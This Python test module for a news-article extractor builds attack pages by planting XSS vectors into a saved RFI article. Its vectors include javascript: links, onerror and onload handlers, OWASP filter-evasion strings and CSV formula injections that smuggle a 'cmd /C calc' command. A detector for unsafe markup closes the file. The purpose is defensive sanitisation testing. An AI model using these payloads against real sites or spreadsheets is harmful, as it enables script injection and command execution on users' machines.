"""Attack pages: XSS vectors put into the real article capture, and what an output may not hold.

The public vectors are DOMPurify's and H5SC's (../shared/xss/vectors.json, see its README), read
from there and never copied; ``OWN_VECTORS`` are ours, one or more for each output (the Markdown
archive's link, rich's console markup, spreadsheet formulas, URLs a browser reads differently,
tags that libxml2's HTML parser closes where the HTML standard does not, and OWASP's filter
evasion style). ``attack_page`` puts a vector into ``cn-article-2025-11-30.html`` (RFI's 2025
article markup) in one of ``PLACES``, as a site would: raw markup where the page holds markup (a
body paragraph, a body sibling element, the DOM lead, the DOM title, the image caption), as a
JSON string in the JSON-LD and as an attribute value in the meta tags. Where the place is a
source that another source outranks (the DOM lead and title, the meta tags), the outranking
values are emptied, so that the vector is what the item holds.

``unsafe_markup`` lists what a browser would run or follow in an HTML string; ``real_blocks``
reads the capture's own headings and paragraphs, independently of the extractor.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
from lxml import html as lxml_html
from selectolax.lexbor import LexborHTMLParser

from testbed.captures import CAPTURES, capture_bytes

ARTICLE = "cn-article-2025-11-30.html"
VECTORS = CAPTURES.parent.parent / "xss" / "vectors.json"


@dataclass(frozen=True)
class Vector:
    id: str
    name: str
    text: str


# Ours: what the public corpora do not aim at. Each says which output it is for.
OWN_VECTORS = [
    Vector(*entry) for entry in [
        # The Markdown archive: a title that ends the link's text or target, or is a link itself.
        ("own-md-1", "Markdown: closes the link text, opens a javascript: target",
         "x](javascript:alert(1)) [y"),
        ("own-md-2", "Markdown: a whole javascript: link", "[click](javascript:alert(1))"),
        ("own-md-3", "Markdown: an autolink", "<javascript:alert(1)>"),
        ("own-md-4", "Markdown: a code span around the closing bracket",
         "`]`(javascript:alert(1))"),
        ("own-md-5", "Markdown: an image with an onerror in its title",
         '![x](http://x.invalid/a.png "onerror=alert(1)")'),
        ("own-md-6", "Markdown and HTML: a raw tag in the title",
         "<img src=x onerror=alert(1)>"),
        ("own-md-7", "Markdown and HTML: an entity that a renderer would decode to a tag",
         "&lt;img src=x onerror=alert(1)&gt;"),
        ("own-md-8", "Markdown: the header's setext rule and an HTML block after it",
         "------\n\n<script>alert(1)</script>"),
        ("own-md-9", "Markdown: a table row and emphasis", "| *a* | _b_ | ~~c~~ |"),
        # rficrawl show / articles: rich's console markup.
        ("own-rich-1", "rich: an unmatched closing tag", "[/x] title"),
        ("own-rich-2", "rich: a style and a link", "[bold red]x[/] [link=javascript:alert(1)]y[/link]"),
        ("own-rich-3", "rich: a terminal escape sequence", "\x1b[31mred\x1b[0m \x9b2J"),
        # CSV: spreadsheet formulas (OWASP's CSV injection).
        ("own-csv-1", "CSV: a formula", '=HYPERLINK("http://x.invalid/?"&A1,"click")'),
        ("own-csv-2", "CSV: plus", "+1+1"),
        ("own-csv-3", "CSV: minus", "-2+3+cmd|' /C calc'!A0"),
        ("own-csv-4", "CSV: at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("own-csv-5", "CSV: an apostrophe already", "'=1+1"),
        # URLs that a browser reads differently from urljoin.
        ("own-url-1", "a tab inside javascript:", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
        ("own-url-2", "a newline inside javascript:", '<a href="java&#10;script:alert(1)">x</a>'),
        ("own-url-3", "a control character before javascript:",
         '<a href="&#14;javascript:alert(1)">x</a>'),
        ("own-url-4", "an entity-encoded javascript:",
         '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>'),
        ("own-url-5", "a data: image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
        # Tags that libxml2 closes where the HTML standard does not (or the reverse).
        ("own-parse-1", "an unclosed form", "<form action=x>"),
        ("own-parse-2", "an unclosed button", "<button>"),
        ("own-parse-3", "an unclosed object", "<object>"),
        ("own-parse-4", "MathML text around the paragraphs", "<math><mtext>"),
        ("own-parse-5", "SVG style read as raw text by libxml2", "<svg><style>"),
        ("own-parse-6", "SVG script read as raw text by libxml2", "<svg><script>"),
        ("own-parse-7", "an unclosed SVG animate", "<svg><animate attributeName=href>"),
        ("own-parse-8", "an unclosed SVG set", "<svg><set attributeName=href to=javascript:alert(1)>"),
        ("own-parse-9", "an unclosed table", "<table><tr><td>"),
        ("own-parse-10", "an unclosed select", "<select><option>"),
        # OWASP's filter evasion cheat sheet, in its style.
        ("own-owasp-1", "mixed case scheme", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
        ("own-owasp-2", "extraneous brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
        ("own-owasp-3", "malformed quotes", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
        ("own-owasp-4", "no closing script", "<SCRIPT SRC=http://x.invalid/xss.js?< B >"),
        ("own-owasp-5", "body onload", "<BODY ONLOAD=alert('XSS')>"),
        ("own-owasp-6", "meta refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">'),
        ("own-owasp-7", "iframe javascript:", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
        ("own-owasp-8", "svg onload", "<svg/onload=alert('XSS')>"),
        ("own-owasp-9", "style url", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
        ("own-owasp-10", "half-open img", "<IMG SRC=\"javascript:alert('XSS')\""),
    ]
]


def public_vectors() -> list[Vector]:
    """The public corpora's vectors; skips the calling test where ../shared is absent."""
    if not Path(VECTORS).exists():
        pytest.skip(f"the public XSS vectors are not at {VECTORS} (../shared is absent here)")
    return [Vector(entry["id"], entry.get("name") or entry["source"], entry["vector"])
            for entry in json.loads(Path(VECTORS).read_text(encoding="utf-8"))]


def all_vectors() -> list[Vector]:
    return [*public_vectors(), *OWN_VECTORS]


def _replace_once(body: str, old: str, new: str) -> str:
    assert old in body, f"{old[:60]!r} not in the page"
    return body.replace(old, new, 1)


def _insert_after(body: str, pattern: str, text: str, start: int = 0) -> str:
    match = re.compile(pattern).search(body, start)
    assert match, f"{pattern!r} not in the page"
    return body[:match.end()] + text + body[match.end():]


def _json_string(text: str) -> str:
    """A JSON string's content as a site writes it into a script (``</`` as ``<\\/``)."""
    return json.dumps(text, ensure_ascii=False)[1:-1].replace("</", "<\\/")


def _attribute(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;")


def _empty_jsonld(body: str, key: str) -> str:
    return re.sub(rf'"{key}": "(?:[^"\\]|\\.)*"', f'"{key}": ""', body, count=1)


def _empty_meta(body: str, *keys: str) -> str:
    for key in keys:
        body = re.sub(rf'(<meta (?:property|name)="{key}" content=")[^"]*"', r'\1"', body, count=1)
    return body


def _body_start(body: str) -> int:
    return body.index('<div class="t-content__body')


def in_body_paragraph(body: str, vector: str) -> str:
    """At the start of the body's first paragraph."""
    return _insert_after(body, r"<p>", vector, _body_start(body))


def as_body_sibling(body: str, vector: str) -> str:
    """Between the body's first and second paragraphs, as an element of its own."""
    first = body.index("</p>", _body_start(body)) + len("</p>")
    return body[:first] + vector + body[first:]


def in_dom_lead(body: str, vector: str) -> str:
    """In the chapo; the JSON-LD and meta descriptions emptied, so that the DOM answers."""
    body = _empty_jsonld(body, "description")
    body = _empty_meta(body, "og:description", "description")
    return _insert_after(body, r'<p class="t-content__chapo">', vector)


def in_dom_title(body: str, vector: str) -> str:
    """In the h1; the JSON-LD headline and og:title emptied, so that the DOM answers."""
    body = _empty_jsonld(body, "headline")
    body = _empty_meta(body, "og:title")
    return _insert_after(body, r"<h1 [^>]*>", vector)


def in_jsonld(body: str, vector: str) -> str:
    """Before the JSON-LD headline and description (the title's and lead's first source)."""
    body = _replace_once(body, '"headline": "', '"headline": "' + _json_string(vector))
    return _replace_once(body, '"description": "', '"description": "' + _json_string(vector))


def in_meta(body: str, vector: str) -> str:
    """Before og:title and og:description; the JSON-LD's emptied, so that the meta answers."""
    body = _empty_jsonld(body, "headline")
    body = _empty_jsonld(body, "description")
    for key in ("og:title", "og:description"):
        marker = f'<meta property="{key}" content="'
        body = _replace_once(body, marker, marker + _attribute(vector))
    return body


def in_image_caption(body: str, vector: str) -> str:
    """At the start of the main image's caption (its figcaption's first span)."""
    return _insert_after(body, r"<figcaption[^>]*>\s*<span>", vector)


PLACES: dict[str, Callable[[str, str], str]] = {
    "body-paragraph": in_body_paragraph,
    "body-sibling": as_body_sibling,
    "dom-lead": in_dom_lead,
    "dom-title": in_dom_title,
    "jsonld": in_jsonld,
    "meta": in_meta,
    "image-caption": in_image_caption,
}


@dataclass(frozen=True)
class AttackPage:
    vector: Vector
    place: str
    body: bytes

    @property
    def id(self) -> str:
        return f"{self.vector.id}@{self.place}"


def attack_page(page: str, vector: Vector, place: str) -> AttackPage:
    return AttackPage(vector, place, PLACES[place](page, vector.text).encode("utf-8"))


def attack_pages(vectors: list[Vector], places=tuple(PLACES)) -> Iterator[AttackPage]:
    page = capture_bytes(ARTICLE).decode("utf-8")
    for vector in vectors:
        for place in places:
            yield attack_page(page, vector, place)


def real_blocks() -> list[str]:
    """The text of the headings and paragraphs that are children of the capture's body div,
    read with lxml (no code of the extractor's)."""
    root = lxml_html.fromstring(capture_bytes(ARTICLE))
    body = root.xpath("//div[contains(@class, 't-content__body')]")[0]
    return [" ".join(child.text_content().split()) for child in body if child.tag in ("h2", "p")]


# --- what an HTML string may not hold ------------------------------------------------------------

# Elements that run script, load a document or change where links and forms go.
UNSAFE_ELEMENTS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta", "link",
    "form", "style", "template", "svg", "math", "noscript", "portal", "fencedframe",
})
# Attributes whose value a browser follows as a URL.
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset",
    "xlink:href", "dynsrc", "lowsrc", "codebase", "ping", "manifest", "longdesc", "usemap",
})
FOLLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
_URL_WHITESPACE = re.compile("[\t\n\r]")


def _scheme(value: str) -> str:
    """The scheme a browser reads in a URL attribute (tabs and newlines removed, ends stripped)."""
    url = _URL_WHITESPACE.sub("", value).strip("".join(map(chr, range(0x21))))
    try:
        return urlsplit(urljoin("https://www.rfi.fr/", url)).scheme.lower()
    except ValueError:
        return "unreadable"


def unsafe_markup(markup: str) -> list[str]:
    """What a browser would run or follow in ``markup``, parsed as Chromium parses it: unsafe
    elements, event handlers, ``style`` and ``srcdoc`` attributes, and URLs that are not
    http(s) or mailto. Empty for safe markup."""
    tree = LexborHTMLParser(markup, scripting=True)
    found = []
    for node in tree.root.traverse():
        if not node.is_element_node:
            continue
        tag = node.tag
        if tag in UNSAFE_ELEMENTS:
            found.append(f"<{tag}>")
        for name, value in node.attributes.items():
            lowered = name.lower()
            if lowered.startswith("on") or lowered in ("style", "srcdoc", "http-equiv"):
                found.append(f"<{tag} {name}>")
            elif lowered in URL_ATTRIBUTES and value and _scheme(value) not in FOLLOWED_SCHEMES:
                found.append(f"<{tag} {name}={value[:40]!r}>")
    return found
